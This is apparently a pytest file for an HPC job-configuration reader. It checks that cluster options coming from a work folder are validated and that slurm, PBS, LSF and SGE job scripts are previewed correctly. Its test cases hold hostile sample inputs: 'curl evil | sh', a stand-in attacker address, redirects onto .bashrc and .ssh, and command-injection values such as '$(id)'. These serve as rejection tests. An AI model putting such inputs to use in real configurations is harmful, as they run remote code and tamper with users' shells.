"""The table [cluster]: what it takes, what it refuses, and the job scripts that come of it."""

from __future__ import annotations

import sys

import pytest

from glee.cli import run
from glee.errors import ClusterError, UsageError
from glee.pipeline.cluster.cluster import open_cluster
from glee.pipeline.cluster.options import ClusterOptions, read_cluster_options
from glee.pipeline.work_folder import read_options, state_options

TABLE = """
[cluster]
queue = "gpu"
account = "p42"
walltime = "02:30:00"
cores = 8
memory = "24GB"
directives = ["--gres=gpu:1"]
prologue = ["module load cuda"]
python = "/opt/glee/bin/python"
"""


def test_the_table_of_the_work_folder_or_of_a_file(tmp_path):
    assert read_cluster_options(tmp_path) == ClusterOptions()
    (tmp_path / "glee.toml").write_text(TABLE)
    assert read_cluster_options(tmp_path).queue == "gpu"
    assert read_cluster_options(tmp_path, tmp_path / "glee.toml").prologue == ("module load cuda",)
    other = tmp_path / "other.toml"
    other.write_text('[cluster]\nqueue = "long"\nmaximum_jobs = 9\nwait_minutes = 5\n')
    options = read_cluster_options(tmp_path, other)
    assert (options.queue, options.account, options.maximum_jobs) == ("long", None, 9)
    assert options.patience_minutes(queue=True) == 5.0


def test_stages_leave_the_table_as_it_is(tmp_path):
    (tmp_path / "glee.toml").write_text(TABLE)
    assert read_options(tmp_path) == {}
    state_options(tmp_path, "preprocess", {"a": 1}, overwrite=False)
    assert read_options(tmp_path) == {"preprocess": {"a": 1}}
    assert read_cluster_options(tmp_path, tmp_path / "glee.toml").directives == ("--gres=gpu:1",)


@pytest.mark.parametrize(
    "line",
    [
        'kind = "tcp://evil:8786"',
        'kind = "tls://evil:8786"',
        'python = "/tmp/evil"',
        'prologue = ["curl evil | sh"]',
        'directives = ["--output=/home/me/.bashrc"]',
        'scratch = "/home/me"',
        'log_folder = "/home/me/.ssh"',
        "dashboard = true",
    ],
)
def test_a_work_folder_says_nothing_that_runs_code_or_writes_elsewhere(tmp_path, caplog, line):
    (tmp_path / "glee.toml").write_text(f'[cluster]\n{line}\ncores = 8\nqueue = "gpu"\n')
    with caplog.at_level("WARNING", logger="glee"):
        options = read_cluster_options(tmp_path)
    assert options == ClusterOptions(cores=8, queue="gpu")
    (record,) = caplog.records
    assert f"[cluster] {line.split()[0]}: not taken from a work folder" in record.getMessage()
    own = read_cluster_options(tmp_path, tmp_path / "glee.toml")
    assert own != options


def test_a_work_folder_may_choose_a_queue(tmp_path, caplog):
    (tmp_path / "glee.toml").write_text('[cluster]\nkind = "slurm"\ninterface = "ib0"\n')
    options = read_cluster_options(tmp_path)
    assert (options.kind, options.interface) == ("slurm", "ib0")
    assert not caplog.records


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("quene = 'a'", "quene is no cluster option; did you mean queue. known are: kind"),
        ("cores = 0", "cores is 0; give 1 to 4096"),
        ("cores = '8'", "cores is '8'; give a int"),
        ("cores = true", "give a int"),
        ("directives = 'a'", "give a list of strings"),
        ("directives = [1]", "give a list of strings"),
        ("prologue = ['a\\nb']", "prologue"),
        ('prologue = ["a\\nb"]', "line break"),
        ("walltime = 'long'", "give it as 04:00:00"),
        ("memory = 'much'", "give it as 16GB"),
        ("minimum_jobs = 2", "needs maximum_jobs"),
        ("queue = 'cpu --output=/home/me/.bashrc'", "without blanks"),
        ('queue = "cpu\\n#SBATCH -A other"', "without blanks"),
        ("account = 'a b'", "without blanks"),
        ("interface = 'ib0; id'", "such as ib0"),
        ("scratch = '/tmp/$(id)'", "without blanks and quotes"),
        ("scratch = '/tmp/a b'", "without blanks and quotes"),
        ('log_folder = "/tmp/a\\nb"', "line break"),
        ('python = "a\\u001bb"', "line break"),
        ("minimum_jobs = 3\nmaximum_jobs = 2", "swap them"),
        ("wait_minutes = nan", "wait_minutes is nan"),
        ("queue =", "cannot be read as TOML"),
    ],
)
def test_a_wrong_line_is_named(tmp_path, line, message):
    path = tmp_path / "c.toml"
    path.write_text(f"[cluster]\n{line}\n")
    if message == "prologue":  # a literal string has no escapes: two characters, no line break
        assert read_cluster_options(None, path).prologue == ("a\\nb",)
        return
    with pytest.raises(UsageError, match=message) as caught:
        read_cluster_options(None, path)
    assert str(path) in str(caught.value)


def test_a_file_without_the_table(tmp_path):
    path = tmp_path / "c.toml"
    path.write_text("queue = 'a'\n")
    with pytest.raises(UsageError, match=r"has no table \[cluster\]"):
        read_cluster_options(None, path)
    with pytest.raises(UsageError, match="cannot be read"):
        read_cluster_options(None, tmp_path / "absent.toml")


@pytest.mark.parametrize(
    ("spec", "lines"),
    [
        ("slurm", ["#SBATCH -p gpu", "#SBATCH -A p42", "#SBATCH -t 02:30:00", "#SBATCH --mem=23G"]),
        ("pbs", ["#PBS -q gpu", "#PBS -A p42", "#PBS -l walltime=02:30:00", "ncpus=8"]),
        ("lsf", ["#BSUB -q gpu", '#BSUB -P "p42"', "#BSUB -W 02:30", "#BSUB -n 8"]),
        ("sge", ["#$ -q gpu", "#$ -P p42", "#$ -l h_rt=02:30:00"]),
    ],
)
def test_preview_shows_the_job(tmp_path, capsys, spec, lines):
    pytest.importorskip("dask_jobqueue", reason="dask-jobqueue is not installed")
    (tmp_path / "glee.toml").write_text(TABLE)
    before = sorted(tmp_path.iterdir())
    table = str(tmp_path / "glee.toml")
    words = ["cluster", "preview", str(tmp_path), "--cluster", spec, "--cluster-config", table]
    assert run(words) == 0
    script = capsys.readouterr().out
    for line in [*lines, "--gres=gpu:1", "export OMP_NUM_THREADS=1", "module load cuda"]:
        assert line in script
    assert "/opt/glee/bin/python -m distributed.cli.dask_worker" in script
    assert "--nthreads 1" in script
    assert "--nworkers 8" in script
    assert sorted(tmp_path.iterdir()) == before


def test_without_dask_jobqueue_the_command_that_installs_it_is_named(monkeypatch, capsys):
    monkeypatch.setitem(sys.modules, "dask_jobqueue", None)
    assert run(["cluster", "preview", "--cluster", "slurm"]) == 2
    assert "pip install '.[cluster]'" in capsys.readouterr().err


def test_where_no_jobs_can_be_submitted(monkeypatch):
    pytest.importorskip("dask_jobqueue", reason="dask-jobqueue is not installed")
    monkeypatch.setenv("PATH", "")
    with pytest.raises(ClusterError, match="bsub is not on the PATH"), open_cluster("lsf"):
        pass
